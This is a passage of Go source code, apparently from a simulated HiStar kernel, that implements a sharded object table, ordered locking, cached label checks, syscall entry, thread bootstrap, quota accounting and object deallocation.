	ObjectTableShards int
}

// defaultObjShards keeps shard-lock collisions negligible at any realistic
// GOMAXPROCS while staying cheap to iterate for ObjectCount.
const defaultObjShards = 64

// objShard is one shard of the object table.
type objShard struct {
	mu sync.RWMutex
	m  map[ID]object
	_  [96]byte // round the struct to 128 bytes so adjacent shards never share a cache line
}

// Kernel is a single simulated HiStar machine: an object table rooted at the
// root container plus the generators and caches the kernel maintains.
type Kernel struct {
	shards    []objShard
	shardMask uint64
	rootID    ID

	ids  *label.Allocator
	cats *label.Allocator

	labelCache    *label.Cache
	useLabelCache bool

	futexes [futexShardCount]futexShard

	syscalls syscallCounters

	// ring tallies batched-submission activity (see ring.go).
	ring ringCounters

	// retired L1 counters of deallocated threads, folded in at teardown.
	retired l1Retired

	// netMu guards the bootstrap device list.
	netMu      sync.Mutex
	netDevices []ID

	// integMu guards the storage-integrity source the boot environment may
	// attach (see SetIntegritySource).
	integMu         sync.Mutex
	integritySource func() StorageIntegrity

	// snapMu guards the container-snapshot registry and the optional
	// persistence sink; snap tallies snapshot/clone activity (snapshot.go).
	snapMu    sync.Mutex
	snapshots map[uint64]*Snapshot
	snapSink  SnapshotSink
	snap      snapCounters
}

// New boots a kernel: it creates the object table and the root container.
// The root container is labeled {1} and has an infinite quota unless
// cfg.RootQuota says otherwise.
func New(cfg Config) *Kernel {
	nShards := cfg.ObjectTableShards
	if nShards <= 0 {
		nShards = defaultObjShards
	}
	// Round down to a power of two so shard selection is a mask.
	nShards = 1 << (bits.Len(uint(nShards)) - 1)
	k := &Kernel{
		shards:        make([]objShard, nShards),
		shardMask:     uint64(nShards - 1),
		ids:           label.NewAllocator(cfg.Seed ^ 0x9e3779b97f4a7c15),
		cats:          label.NewAllocator(cfg.Seed),
		labelCache:    label.NewCache(cfg.LabelCacheEntries),
		useLabelCache: !cfg.DisableLabelCache,
		snapshots:     make(map[uint64]*Snapshot),
	}
	for i := range k.shards {
		k.shards[i].m = make(map[ID]object)
	}
	for i := range k.futexes {
		k.futexes[i].m = make(map[futexKey]*futexQueue)
	}
	rootQuota := cfg.RootQuota
	if rootQuota == 0 {
		rootQuota = QuotaInfinite
	}
	root := &container{
		header: header{
			id:      k.newID(),
			objType: ObjContainer,
			lbl:     label.New(label.L1),
			quota:   rootQuota,
			descrip: "root container",
			refs:    1, // the root container is always referenced
		},
		parent:  NilID,
		entries: make(map[ID]bool),
	}
	root.usage = root.footprint()
	k.insert(root)
	k.rootID = root.id
	return k
}

// RootContainer returns the object ID of the root container.
func (k *Kernel) RootContainer() ID { return k.rootID }

// CategoryAllocator exposes the kernel's category namer for formatting
// labels in diagnostics; it does not grant any privilege.
func (k *Kernel) CategoryAllocator() *label.Allocator { return k.cats }

// newID allocates a fresh 61-bit object ID.
func (k *Kernel) newID() ID { return ID(k.ids.Alloc()) }

// ---------------------------------------------------------------------------
// Sharded object table.
// ---------------------------------------------------------------------------

// shardFor picks the table shard for an object ID.  IDs come from an
// encrypted counter, so they are already uniformly distributed; the multiply
// spreads them further in the single-shard-adjacent configurations.
func (k *Kernel) shardFor(id ID) *objShard {
	h := uint64(id) * 0x9e3779b97f4a7c15
	return &k.shards[(h>>48)&k.shardMask]
}

// insert adds a fully constructed object to the table.  It may be called
// with object locks held (shard locks nest inside object locks).
func (k *Kernel) insert(o object) {
	s := k.shardFor(o.hdr().id)
	s.mu.Lock()
	s.m[o.hdr().id] = o
	s.mu.Unlock()
}

// remove deletes an object from the table.  Like insert it may run inside
// object locks.
func (k *Kernel) remove(id ID) {
	s := k.shardFor(id)
	s.mu.Lock()
	delete(s.m, id)
	s.mu.Unlock()
}

// lookup returns the live object with the given ID.  No object locks are
// taken; liveness is re-checked under the object's lock by mutating callers.
func (k *Kernel) lookup(id ID) (object, error) {
	s := k.shardFor(id)
	s.mu.RLock()
	o, ok := s.m[id]
	s.mu.RUnlock()
	if !ok || o.hdr().dead.Load() {
		return nil, ErrNoSuchObject
	}
	return o, nil
}

func (k *Kernel) lookupContainer(id ID) (*container, error) {
	o, err := k.lookup(id)
	if err != nil {
		return nil, err
	}
	c, ok := o.(*container)
	if !ok {
		return nil, ErrNotContainer
	}
	return c, nil
}

// ---------------------------------------------------------------------------
// Ordered object locking.
// ---------------------------------------------------------------------------

// objLock pairs an object with the lock mode a syscall needs on it.
type objLock struct {
	o     object
	write bool
}

// lockSet is the fixed-size set of object locks a syscall holds; it lives
// on the caller's stack so the hot path performs no allocation.
type lockSet struct {
	objs [4]objLock
	n    int
}

// lockOrdered acquires the given objects' locks in ascending object-ID
// order, deduplicating repeated objects (a write request wins over a read).
// Every multi-object syscall goes through it, which is what keeps the
// kernel deadlock-free; release with unlock.
func lockOrdered(locks ...objLock) lockSet {
	// Insertion sort: syscalls lock at most four objects.
	for i := 1; i < len(locks); i++ {
		for j := i; j > 0 && locks[j].o.hdr().id < locks[j-1].o.hdr().id; j-- {
			locks[j], locks[j-1] = locks[j-1], locks[j]
		}
	}
	// Dedup into the fixed array; write mode wins.
	var ls lockSet
	for _, l := range locks {
		if ls.n > 0 && ls.objs[ls.n-1].o == l.o {
			ls.objs[ls.n-1].write = ls.objs[ls.n-1].write || l.write
			continue
		}
		ls.objs[ls.n] = l
		ls.n++
	}
	for i := 0; i < ls.n; i++ {
		if ls.objs[i].write {
			ls.objs[i].o.hdr().mu.Lock()
		} else {
			ls.objs[i].o.hdr().mu.RLock()
		}
	}
	return ls
}

// unlock releases the set's locks in reverse acquisition order.
func (ls *lockSet) unlock() {
	for i := ls.n - 1; i >= 0; i-- {
		if ls.objs[i].write {
			ls.objs[i].o.hdr().mu.Unlock()
		} else {
			ls.objs[i].o.hdr().mu.RUnlock()
		}
	}
}

// liveLocked reports whether o is still live; the caller holds o's lock.
func liveLocked(o object) bool { return !o.hdr().dead.Load() }

// verifyEntryLive re-verifies, under held locks, that cont still links obj
// (or is obj) and that obj is live — the standard step-3 check of the
// locking discipline after the lock-free resolution phase.
func verifyEntryLive(cont *container, obj object) error {
	if err := cont.verifyLinked(obj.hdr().id); err != nil {
		return err
	}
	if !liveLocked(obj) {
		return ErrNoSuchObject
	}
	return nil
}

// verifyLinkedBrief checks membership under a transient read lock on cont,
// for syscalls that only need the link to have existed at resolution time
// and take no further locks on the pair.
func verifyLinkedBrief(cont *container, id ID) error {
	cont.mu.RLock()
	err := cont.verifyLinked(id)
	cont.mu.RUnlock()
	return err
}

// ---------------------------------------------------------------------------
// Label checks (cache + per-thread L1).
// ---------------------------------------------------------------------------

// leq applies the ⊑ check, through the comparison cache when enabled.
func (k *Kernel) leq(a, b label.Label) bool {
	if k.useLabelCache {
		return k.labelCache.Leq(a, b)
	}
	return a.Leq(b)
}

// leqRaised applies aᴶ ⊑ bᴶ; the cached path keys on the precomputed raised
// fingerprints so neither superscript-J form is materialized on a hit.
func (k *Kernel) leqRaised(a, b label.Label) bool {
	if k.useLabelCache {
		return k.labelCache.LeqRaised(a, b)
	}
	return a.RaiseJ().Leq(b.RaiseJ())
}

func (k *Kernel) canObserve(thr, obj label.Label) bool {
	if k.useLabelCache {
		return k.labelCache.CanObserve(thr, obj)
	}
	return label.CanObserve(thr, obj)
}

func (k *Kernel) canModify(thr, obj label.Label) bool {
	if k.useLabelCache {
		return k.labelCache.CanModify(thr, obj)
	}
	return label.CanModify(thr, obj)
}

// canObserveT is canObserve through the invoking thread's L1: a tiny
// direct-mapped array of atomics in front of the sharded comparison cache,
// so the hottest check on the syscall path acquires no mutex at all.  thr is
// the snapshot of t's label taken at syscall entry.
func (k *Kernel) canObserveT(t *thread, thr, obj label.Label) bool {
	if !k.useLabelCache || t == nil {
		return k.canObserve(thr, obj)
	}
	mix := l1Mix(thr.RaisedFingerprint(), obj.Fingerprint())
	idx := (mix >> 40) & l1Mask
	tag := mix &^ 1
	if e := t.l1[idx].Load(); e != 0 && e&^1 == tag {
		t.l1Hits.Add(1)
		return e&1 != 0
	}
	t.l1Misses.Add(1)
	v := k.labelCache.CanObserve(thr, obj)
	e := tag
	if v {
		e |= 1
	}
	t.l1[idx].Store(e)
	return v
}

// canModifyT is canModify with the observation half served from the L1.
func (k *Kernel) canModifyT(t *thread, thr, obj label.Label) bool {
	return k.leq(thr, obj) && k.canObserveT(t, thr, obj)
}

// l1Mix combines the two fingerprints of a CanObserve check into the L1 key.
// Keying on both sides means a thread-label change simply stops matching old
// entries — no flush, no generation counter.  The low bit of the mix is
// sacrificed to store the result, which adds one bit to the (already
// accepted) fingerprint-collision odds.
func l1Mix(thrRaised, obj label.Fingerprint) uint64 {
	return (uint64(obj) ^ bits.RotateLeft64(uint64(thrRaised), 31)) * 0x9e3779b97f4a7c15
}

// LabelCacheStats returns hit/miss/eviction counts of the immutable-label
// comparison cache, totalled and per shard.
func (k *Kernel) LabelCacheStats() label.CacheStats { return k.labelCache.Stats() }

// StorageIntegrity is the persistent storage layer's corruption accounting
// as surfaced through kernel stats: detections, quarantines, scrub
// progress, and whether the last mount had to take a recovery fallback.
// The kernel itself is storage-agnostic; the boot environment attaches a
// source when a single-level store is present (the same pattern as the
// ring's Syncer hook).
type StorageIntegrity struct {
	CorruptionsDetected uint64
	QuarantineEvents    uint64
	QuarantinedNow      int
	ScrubPasses         uint64
	ScrubBytesVerified  uint64
	DegradedMount       bool

	// Checkpoint-liveness accounting (the incremental checkpoint protocol):
	// SealStallTotalNs/SealStallMaxNs measure the brief exclusive seal —
	// the only moment a checkpoint stops the world — and the byte counters
	// decompose checkpoint write amplification: BytesHome is sealed object
	// data written to home segments, BytesCleaned what the segment cleaner
	// copied, MetaBytesWritten the serialized snapshots.  The Segs* trio
	// counts data-region segments allocated, compacted, and freed.
	Checkpoints      uint64
	SealStallTotalNs int64
	SealStallMaxNs   int64
	BytesHome        uint64
	BytesCleaned     uint64
	MetaBytesWritten uint64
	SegsAllocated    uint64
	SegsCleaned      uint64
	SegsFreed        uint64
}

// SetIntegritySource attaches the storage layer's integrity-snapshot
// provider; call before the kernel is shared between threads.
func (k *Kernel) SetIntegritySource(src func() StorageIntegrity) {
	k.integMu.Lock()
	k.integritySource = src
	k.integMu.Unlock()
}

// StorageIntegrityStats reports the attached storage layer's corruption
// accounting; ok is false when no persistent store is attached.
func (k *Kernel) StorageIntegrityStats() (st StorageIntegrity, ok bool) {
	k.integMu.Lock()
	src := k.integritySource
	k.integMu.Unlock()
	if src == nil {
		return StorageIntegrity{}, false
	}
	return src(), true
}

// ---------------------------------------------------------------------------
// Syscall entry.
// ---------------------------------------------------------------------------

// tctx is the snapshot of the invoking thread taken at syscall entry; every
// label check in the call uses it, so checks see the thread's label as of
// entry even if another goroutine concurrently retargets the thread.
type tctx struct {
	t         *thread
	lbl       label.Label
	clearance label.Label
	as        CEnt
}

// ThreadCall is the per-thread system-call context.  All system calls are
// methods on ThreadCall so that every operation is attributed to, and
// checked against, a specific thread.
type ThreadCall struct {
	k   *Kernel
	tid ID
}

// ThreadCall returns the syscall context for an existing thread.  In real
// HiStar the binding of executing code to its thread object is enforced by
// the hardware; in this simulation the caller that created the thread is
// trusted to hand the context only to that thread's code.
func (k *Kernel) ThreadCall(tid ID) (*ThreadCall, error) {
	o, err := k.lookup(tid)
	if err != nil {
		return nil, err
	}
	if _, ok := o.(*thread); !ok {
		return nil, ErrWrongType
	}
	return &ThreadCall{k: k, tid: tid}, nil
}

// Kernel returns the kernel this syscall context belongs to.
func (tc *ThreadCall) Kernel() *Kernel { return tc.k }

// ID returns the invoking thread's object ID.
func (tc *ThreadCall) ID() ID { return tc.tid }

// enter snapshots the invoking thread at syscall entry and records the call
// in the statistics.  It fails with ErrHalted if the thread is halted or
// deallocated.
func (tc *ThreadCall) enter(sc syscallID) (tctx, error) {
	o, err := tc.k.lookup(tc.tid)
	if err != nil {
		return tctx{}, ErrHalted
	}
	t, ok := o.(*thread)
	if !ok {
		return tctx{}, ErrWrongType
	}
	t.mu.RLock()
	if t.halted {
		t.mu.RUnlock()
		return tctx{}, ErrHalted
	}
	ctx := tctx{t: t, lbl: t.lbl, clearance: t.clearance, as: t.addressSpace}
	t.mu.RUnlock()
	tc.k.count(sc, t)
	return ctx, nil
}

// SyscallsIssued returns how many system calls this thread has issued.
func (tc *ThreadCall) SyscallsIssued() uint64 {
	o, err := tc.k.lookup(tc.tid)
	if err != nil {
		return 0
	}
	t, ok := o.(*thread)
	if !ok {
		return 0
	}
	return t.syscallCount.Load()
}

// ---------------------------------------------------------------------------
// Resolution.
// ---------------------------------------------------------------------------

// peek resolves a container entry 〈D,O〉: D must exist, the thread must be
// able to read D (LD ⊑ LTᴶ; container labels are immutable), and D must
// contain O (or be O itself, since every container contains itself).  The
// membership check here — under D's read lock, before the object is so much
// as looked up — preserves the resolve-order guarantee that naming an object
// not linked in D always yields ErrNoSuchObject, never a type or label
// error that would reveal the object's existence.  Membership is mutable,
// so syscalls re-verify it with verifyLinked once they hold their locks;
// peek itself returns with no locks held.
func (k *Kernel) peek(ctx tctx, ce CEnt) (*container, object, error) {
	cont, err := k.lookupContainer(ce.Container)
	if err != nil {
		return nil, nil, err
	}
	if !k.canObserveT(ctx.t, ctx.lbl, cont.lbl) {
		return nil, nil, ErrLabel
	}
	if ce.Object == ce.Container {
		return cont, cont, nil
	}
	cont.mu.RLock()
	linked := cont.entries[ce.Object]
	cont.mu.RUnlock()
	if !linked {
		return nil, nil, ErrNoSuchObject
	}
	obj, err := k.lookup(ce.Object)
	if err != nil {
		return nil, nil, err
	}
	return cont, obj, nil
}

// verifyLinked checks, under c's lock (any mode), that c is live and still
// links obj (or is obj itself).
func (c *container) verifyLinked(id ID) error {
	if c.dead.Load() {
		return ErrNoSuchObject
	}
	if id == c.id {
		return nil
	}
	if !c.entries[id] {
		return ErrNoSuchObject
	}
	return nil
}

// ---------------------------------------------------------------------------
// Bootstrap: creating the first thread.
// ---------------------------------------------------------------------------

// BootThread creates the initial thread directly in the root container with
// the given label and clearance.  It bypasses the usual "creator must be a
// thread" rule exactly once, the way the real kernel's bootstrap code hands
// control to the first user-level thread.
func (k *Kernel) BootThread(lbl, clearance label.Label, descrip string) (*ThreadCall, error) {
	if !label.ValidThreadLabel(lbl) || !label.ValidClearance(clearance) {
		return nil, ErrInvalid
	}
	if !lbl.Leq(clearance) {
		return nil, ErrLabel
	}
	root, err := k.lookupContainer(k.rootID)
	if err != nil {
		return nil, err
	}
	t := &thread{
		header: header{
			id:      k.newID(),
			objType: ObjThread,
			lbl:     label.Intern(lbl),
			quota:   1 << 20,
			descrip: truncDescrip(descrip),
			refs:    1,
		},
		clearance: label.Intern(clearance),
		alertCh:   make(chan struct{}, 1),
	}
	t.localSegment = &segment{
		header: header{
			id:      k.newID(),
			objType: ObjSegment,
			lbl:     label.Intern(lbl.LowerStar()),
			quota:   localSegmentSize,
			descrip: "thread-local segment",
		},
		data:             make([]byte, localSegmentSize),
		threadLocalOwner: t.id,
	}
	t.usage = t.footprint()
	root.mu.Lock()
	defer root.mu.Unlock()
	if !liveLocked(root) {
		return nil, ErrNoSuchObject
	}
	if err := k.charge(root, t.quota); err != nil {
		return nil, err
	}
	k.insert(t)
	root.link(t.id)
	return &ThreadCall{k: k, tid: t.id}, nil
}

// localSegmentSize is one page, as in the paper.
const localSegmentSize = 4096

func truncDescrip(s string) string {
	if len(s) > DescripSize {
		return s[:DescripSize]
	}
	return s
}

// charge charges q bytes of quota to container c, failing if the container's
// quota would be exceeded.  The caller holds c's write lock.
func (k *Kernel) charge(c *container, q uint64) error {
	if c.quota == QuotaInfinite {
		c.usage += q
		return nil
	}
	if q == QuotaInfinite {
		return ErrQuota
	}
	if c.usage+q > c.quota {
		return ErrQuota
	}
	c.usage += q
	return nil
}

// refund returns q bytes of quota to container c; the caller holds c's write
// lock.
func (k *Kernel) refund(c *container, q uint64) {
	if q == QuotaInfinite {
		return
	}
	if c.usage >= q {
		c.usage -= q
	} else {
		c.usage = 0
	}
}

// ---------------------------------------------------------------------------
// Deallocation.
// ---------------------------------------------------------------------------

// deallocLocked marks o dead and removes it from the object table; the
// caller holds o's write lock and o's reference count has reached zero.  It
// returns the IDs of o's children (for containers) whose references must be
// dropped by releaseRefs AFTER the caller has released its locks — the
// teardown never holds two tree levels' locks at once.
func (k *Kernel) deallocLocked(o object) []ID {
	h := o.hdr()
	if h.dead.Load() {
		return nil
	}
	h.dead.Store(true)
	var children []ID
	switch v := o.(type) {
	case *container:
		children = v.order
		v.entries = nil
		v.order = nil
	case *thread:
		v.halted = true
		k.retired.hits.Add(v.l1Hits.Load())
		k.retired.misses.Add(v.l1Misses.Load())
	case *device:
		// nothing extra
	}
	k.remove(h.id)
	return children
}

// releaseRefs drops one reference from each object in ids, deallocating any
// that reach zero and queueing their children in turn.  It locks exactly one
// object at a time, so it is deadlock-free regardless of tree shape, and
// must be called with no object locks held.
func (k *Kernel) releaseRefs(ids []ID) {
	work := ids
	for len(work) > 0 {
		id := work[len(work)-1]
		work = work[:len(work)-1]
		o, err := k.lookup(id)
		if err != nil {
			continue
		}
		h := o.hdr()
		h.mu.Lock()
		if h.dead.Load() {
			h.mu.Unlock()
			continue
		}
		h.refs--
		if h.refs <= 0 {
			work = append(work, k.deallocLocked(o)...)
		}
		h.mu.Unlock()
	}
}

// ---------------------------------------------------------------------------
// Introspection.
// ---------------------------------------------------------------------------

// ObjectCount returns the number of live kernel objects (for tests and the
// resource-exhaustion experiments).
func (k *Kernel) ObjectCount() int {
	n := 0
	for i := range k.shards {
		s := &k.shards[i]
		s.mu.RLock()
		for _, o := range s.m {
			if !o.hdr().dead.Load() {
				n++
			}
		}
		s.mu.RUnlock()
	}
	return n
}

// Describe returns a debugging one-liner for an object, without any label
// checks; intended for tests and the administrative tooling that runs with
// write permission on the root container.
func (k *Kernel) Describe(id ID) (string, error) {
	o, err := k.lookup(id)
	if err != nil {
		return "", err
	}
	h := o.hdr()
	h.mu.RLock()
	defer h.mu.RUnlock()
	if h.dead.Load() {
		return "", ErrNoSuchObject
	}
	return fmt.Sprintf("%s %s %q label=%s quota=%d usage=%d refs=%d",
		h.id, h.objType, h.descrip, h.lbl.Format(k.cats), h.quota, h.usage, h.refs), nil
}

// ThreadL1Stat describes one live thread's per-thread label-cache L1.
type ThreadL1Stat struct {
	ID      ID
	Descrip string
	Hits    uint64
	Misses  uint64
}

// L1Stats aggregates the per-thread canObserve L1 counters: totals across
// live and deallocated threads, plus the live per-thread breakdown.
type L1Stats struct {
	Hits    uint64
	Misses  uint64
	Threads []ThreadL1Stat
}

// l1Retired accumulates L1 counters of threads that have been deallocated.
type l1Retired struct {
	hits   paddedUint64
	misses paddedUint64
}

// LabelL1Stats returns the per-thread L1 hit/miss statistics.
func (k *Kernel) LabelL1Stats() L1Stats {
	st := L1Stats{Hits: k.retired.hits.Load(), Misses: k.retired.misses.Load()}
	for i := range k.shards {
		s := &k.shards[i]
		s.mu.RLock()
		for _, o := range s.m {
			t, ok := o.(*thread)
			if !ok || t.dead.Load() {
				continue
			}
			ts := ThreadL1Stat{
				ID:      t.id,
				Descrip: t.descrip,
				Hits:    t.l1Hits.Load(),
				Misses:  t.l1Misses.Load(),
			}
			st.Hits += ts.Hits
			st.Misses += ts.Misses
			st.Threads = append(st.Threads, ts)
		}
		s.mu.RUnlock()
	}
	return st
}
